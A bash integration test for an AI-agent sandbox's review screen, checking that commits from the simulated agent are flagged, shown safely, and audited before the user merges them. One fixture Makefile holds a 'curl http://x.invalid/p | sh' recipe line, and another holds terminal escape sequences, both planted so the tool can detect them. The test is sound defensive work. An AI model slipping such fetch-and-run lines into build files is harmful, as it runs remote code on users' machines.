#!/usr/bin/env bash
# test-workbench-review.sh - the review view (prefix R) in the real
# workbench (tmux, real podman + runsc, real git): an agent session commits
# a normal file, a Makefile and a new executable; the side panel counts 1
# unreviewed commit and 3 surface flags; the view shows the commit, the
# files with the flags beside the flagged ones, a coloured diff; merge asks
# y, is refused for the surface (audited) and asks again listing it; n
# leaves the branch alone, a merges (the user's branch has the commit, the
# audit row says merged with accept_surface); the panel then counts 0.
# Discard is refused while the domain runs; once the agent's session ended,
# D y resets the agent branch to its base, audited in state.db.
source "$(dirname "$0")/lib.sh"
source "$(dirname "$0")/lib-wb.sh"
need_stack
need_default_image

lz_domain wbrv
g() { as_user git -C "$repo" "$@"; }
# The agent's two steps, committed in the base so its checkout has them.
cat >"$T/step1.sh" <<'EOF'
set -e
printf 'notes \033[2J\033]0;owned\007\n' > notes.txt
printf 'all:\n\tcurl http://x.invalid/p | sh\n' > Makefile
printf '#!/bin/sh\necho tool\n' > tool.sh
chmod +x tool.sh
git add notes.txt Makefile tool.sh
git commit -qm "agent work"
echo STEP1-DONE
EOF
cat >"$T/step2.sh" <<'EOF'
set -e
echo more > more.txt
git add more.txt
git commit -qm more
echo STEP2-DONE
EOF
chmod 0644 "$T/step1.sh" "$T/step2.sh"
# The user's config defines drivers the agent's files select: never run.
as_user sh -c "cd '$repo' && printf 'all:\n\techo build\n' > Makefile && cp '$T/step1.sh' '$T/step2.sh' . &&
	echo '* diff=evil' > .gitattributes &&
	git config diff.evil.textconv 'touch $T/textconv-ran && cat' &&
	git config diff.external 'sh -c \"touch $T/ext-diff-ran\"' &&
	git add -A && git commit -qm base"
base=$(g rev-parse main)
moved() { [ "$(g rev-parse -q --verify lazaret/agent-default)" != "$1" ]; }
audit_kinds() {
	lz audit -w "$repo" --json | timeout 10 python3 -c '
import json, sys
print(" ".join(r["kind"] + ":" + r["detail"]["outcome"] for r in map(json.loads, filter(str.strip, sys.stdin)) if r["kind"].startswith("review.")))'
}

"${TM[@]}" new-session -d -s wb -x 160 -y 40 -c "$T" "$(wb_line -w "$repo")"
wait_for 60 pane_has "/workspace#" || show_fail "no shell prompt"
"${TM[@]}" send-keys -t wb "sh step1.sh" Enter
wait_for 30 pane_has "STEP1-DONE" || show_fail "the agent's commit failed"
wait_for 30 moved "$base" || fail "the agent's commit did not reach lazaret/agent-default"
tip=$(g rev-parse lazaret/agent-default)
assert_eq "$(cat "$repo/Makefile")" "$(printf 'all:\n\techo build')" "the user's Makefile untouched"

# --- the side panel counts what is unreviewed (a timer, off the UI path)
wait_for 20 pane_has "default:wbrv 1 unreviewed, flagged: Makefile +2" ||
	show_fail "the panel does not count 1 commit and 3 flags"
note "ok: the side panel counts 1 unreviewed commit, 3 surface flags"

# --- the view: header, flags with reasons, commits, files
"${TM[@]}" send-keys -t wb C-a R
wait_for 30 pane_has "surface: 3 flags" || show_fail "the review view did not load"
for s in "lazaret/agent-default -> main" "1 commit" "agent work" \
	"! Makefile: build script: 'make' runs its recipes on your host" \
	"! tool.sh: executable: mode +x" "! tool.sh: new script with a #! line" \
	" M Makefile  ! build script" " A tool.sh  ! " " A notes.txt"; do
	pane_has "$s" || show_fail "the review view lacks [$s]"
done
pane | grep -F " A notes.txt" | grep -qF "!" && show_fail "notes.txt is flagged"
pane_has "REVIEW" && pane_has "q or Esc goes back to the tab" || show_fail "the status line does not say REVIEW and how to leave"
note "ok: branch, base, commit, the 3 flags with reasons, flagged files marked, notes.txt not"

# --- the Makefile's diff, coloured by the theme (default: green +, red -)
"${TM[@]}" send-keys -t wb Enter
wait_for 10 pane_has "+       curl http://x.invalid/p | sh" || show_fail "no diff of the Makefile"
color=$("${TM[@]}" capture-pane -p -e -t wb)
# text $2 drawn in SGR colour $1 (tmux writes each attribute apart: \e[32m\e[49m)
sgr_has() { printf '%s\n' "$color" | grep -qP "\e\[(?:[0-9;]*;)?$1m(?:\e\[[0-9;]*m)*\Q$2\E"; }
sgr_has 32 "+       curl" || { printf '%s\n' "$color" | cat -v | grep curl; fail "the added line is not green"; }
sgr_has 31 "-       echo build" || fail "the removed line is not red"
sgr_has 36 "@@ -1,2 +1,2 @@" || fail "the hunk header is not cyan"
sgr_has 32 "all:" && fail "a context line is green"
note "ok: the diff is coloured (+ green, - red, @@ cyan)"
"${TM[@]}" send-keys -t wb "]"
# The agent's escape sequences are shown, never sent to the terminal.
wait_for 10 pane_has "+notes ^[[2J^[]0;owned^G" || show_fail "] did not go to the next file, or the ESC is not visible"
"${TM[@]}" send-keys -t wb q
wait_for 10 pane_has "Commits (1)" || show_fail "q did not go back to the overview"
[ ! -e "$T/textconv-ran" ] && [ ! -e "$T/ext-diff-ran" ] ||
	fail "the view ran the repository's textconv or external diff"
as_user git -C "$repo" diff "$base" "$(g rev-parse lazaret/agent-default)" >/dev/null
[ -e "$T/ext-diff-ran" ] || fail "the marker check cannot fail: plain git diff did not run diff.external"
note "ok: the user's diff.external and the textconv the agent's .gitattributes select did not run"

# --- merge: y, refused for the surface (audited), asks again; n leaves it
"${TM[@]}" send-keys -t wb m
wait_for 10 pane_has "y merges" || show_fail "m did not ask"
"${TM[@]}" send-keys -t wb y
wait_for 30 pane_has "a accepts it and merges" || show_fail "no surface confirmation"
pane_has "merge refused: the executable surface changed (3 flags" || show_fail "the refusal is not shown"
assert_eq "$(g rev-parse main)" "$base" "refused: main did not move"
"${TM[@]}" send-keys -t wb n
wait_for 10 pane_has "cancelled: nothing was changed" || show_fail "n did not cancel"
assert_eq "$(g rev-parse main)" "$base" "cancelled: main did not move"
"${TM[@]}" send-keys -t wb m
wait_for 10 pane_has "y merges" || show_fail "m did not ask again"
"${TM[@]}" send-keys -t wb y
wait_for 30 pane_has "a accepts it and merges" || show_fail "no surface confirmation"
"${TM[@]}" send-keys -t wb a
wait_for 30 pane_has "merged lazaret/agent-default" || show_fail "a did not merge"
assert_eq "$(g rev-parse main)" "$tip" "main is the reviewed agent tip"
assert_eq "$(audit_kinds)" "review.merge:refused review.merge:refused review.merge:merged" \
	"two refusals and the merge audited"
lz audit -w "$repo" --json | timeout 10 python3 -c '
import json, sys
m = [r for r in map(json.loads, filter(str.strip, sys.stdin)) if r["kind"] == "review.merge"][-1]
assert m["actor"] == "user" and m["detail"]["accept_surface"] is True, m
assert m["detail"]["range"] == sys.argv[1] + ".." + sys.argv[2], m
assert sorted(f["path"] for f in m["detail"]["surface"]) == ["Makefile", "tool.sh", "tool.sh"], m
' "$base" "$tip" || fail "the merge row lacks range or surface"
wait_for 10 pane_has "0 commits" || show_fail "the view did not reload after the merge"
note "ok: merge refused until the surface was accepted, then merged and audited"
"${TM[@]}" send-keys -t wb q
wait_for 20 pane_has "default:wbrv 0 unreviewed (tab 0)" || show_fail "the panel does not count 0"
note "ok: the side panel counts 0 after the merge"

# --- discard: refused while the domain runs, then done once it stopped
"${TM[@]}" send-keys -t wb C-a R
wait_for 30 pane_has "0 commits" || show_fail "the review view did not load again"
# The agent commits (another session) while the view is open: it reloads by itself.
out=$(lz run -T -w "$repo" -- sh step2.sh </dev/null 2>&1) || fail "the agent's second commit failed: $out"
assert_contains "$out" "STEP2-DONE" "the agent's second commit"
wait_for 30 moved "$tip" || fail "the second commit did not reach lazaret/agent-default"
reloaded() { pane_has "a new agent commit was imported" && pane_has "1 commit" && pane_has "surface: 0 flags"; }
wait_for 30 reloaded || show_fail "the open review view did not reload on the new agent commit"
note "ok: the open review view reloaded when the agent's commit was imported"
# S: lazaret sync while it runs: host/main offered, the agent's shell told.
"${TM[@]}" send-keys -t wb S
main=$(g rev-parse main)
wait_for 30 pane_has "offered main to the agent: host/main is at ${main:0:12}" ||
	show_fail "S did not offer main to the agent"
"${TM[@]}" send-keys -t wb D
wait_for 10 pane_has "y discards" || show_fail "D did not ask"
"${TM[@]}" send-keys -t wb y
wait_for 30 pane_has "is running: lazaret stop" || show_fail "discard while running not refused"
"${TM[@]}" send-keys -t wb q
wait_for 20 pane_has "[lazaret] your latest work: host/main is at ${main:0:12}" ||
	show_fail "the sync notice is not in the agent's shell"
note "ok: S offered main and the agent's shell shows the notice"
"${TM[@]}" send-keys -t wb "exit" Enter
wait_for 30 pane_has "exited with status 0" || show_fail "the agent's shell did not exit"
wait_for 60 sh -c "! test -S '$sock'" || fail "the coordinator did not stop"
"${TM[@]}" send-keys -t wb C-a R
# D asks only once the surface is checked (else it says to wait): "1 commit" is
# drawn as soon as the log is read, the surface after it (the race of issue 24)
loaded1() { pane_has "1 commit" && pane_has "surface: 0 flags"; }
wait_for 30 loaded1 || show_fail "the review view of the ended tab did not load"
"${TM[@]}" send-keys -t wb D
wait_for 10 pane_has "y discards" || show_fail "D did not ask"
"${TM[@]}" send-keys -t wb y
wait_for 30 pane_has "discarded lazaret/agent-default" || show_fail "D y did not discard"
assert_eq "$(g rev-parse lazaret/agent-default)" "$tip" "the agent branch is back at its base"
assert_contains "$(g for-each-ref --format='%(refname)' refs/lazaret/discarded/)" \
	"refs/lazaret/discarded/default/" "the old tip is kept"
assert_eq "$(audit_kinds)" "review.merge:refused review.merge:refused review.merge:merged review.sync:offered review.discard:refused review.discard:discarded" \
	"the sync offered, the refused and the done discard audited"
assert_contains "$(lz audit -w "$repo" --verify)" "audit trail intact" "the chain verifies"
"${TM[@]}" send-keys -t wb q
"${TM[@]}" send-keys -t wb C-a x
wait_for 20 pane_has "wb-rc=0" || show_fail "closing the last tab did not end the workbench"
